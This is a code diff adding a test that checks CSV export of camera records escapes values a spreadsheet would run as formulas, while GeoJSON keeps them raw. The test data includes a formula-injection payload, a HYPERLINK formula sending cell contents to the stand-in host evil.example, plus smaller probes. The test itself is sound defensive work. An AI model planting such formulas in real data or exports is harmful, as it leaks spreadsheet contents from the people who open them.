@@ -154,3 +154,25 @@ def test_the_metadata_gives_the_box_with_every_digit_it_was_given(client, db):
     assert response.status_code == 200
     document = json.loads(b"".join(_chunks(response)))
     assert document["metadata"]["filters"]["in_bbox"] == given
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(client, db, box):
+    """Anyone may edit OpenStreetMap: an operator named =HYPERLINK(...) ran as a formula
+    when a researcher opened the CSV in a spreadsheet. The GeoJSON keeps the value."""
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    camera = make_camera(
+        location=point(*inside(box)),
+        operator=hostile,
+        name="@SUM(1+1)",
+        ref="-2+3",
+        vendor="\tAxis",
+        zone="town",
+    )
+    response = client.get(f"{CSV}?in_bbox={box}")
+    (row,) = csv.DictReader(io.StringIO(b"".join(_chunks(response)).decode()))
+    assert row["operator"] == "'" + hostile
+    assert (row["name"], row["ref"], row["vendor"]) == ("'@SUM(1+1)", "'-2+3", "'\tAxis")
+    assert row["zone"] == "town" and row["id"] == str(camera.pk)
+    assert float(row["lon"]) == camera.location.x  # numbers stay numbers
+    document = json.loads(b"".join(_chunks(client.get(f"{GEOJSON}?in_bbox={box}"))))
+    assert document["features"][0]["properties"]["operator"] == hostile
